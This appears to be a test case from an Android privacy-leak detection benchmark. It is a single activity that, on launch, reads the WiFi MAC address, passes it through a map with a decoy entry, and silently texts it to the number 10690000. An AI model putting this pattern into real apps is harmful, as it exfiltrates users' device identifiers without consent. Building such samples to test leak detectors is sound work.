package cn.privlens.suite.key_view_other_removed;

import android.app.Activity;
import android.net.wifi.WifiManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.LinkedHashMap;
import java.util.Map;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, String> m = new LinkedHashMap<>();
        m.put("卡𠮷", ((WifiManager) getSystemService(WIFI_SERVICE)).getConnectionInfo().getMacAddress());
        m.put("lang", "zh");
        m.keySet().remove("lang");
        SmsManager.getDefault().sendTextMessage("10690000", null, "v=" + m.values(), null, null);
    }
}
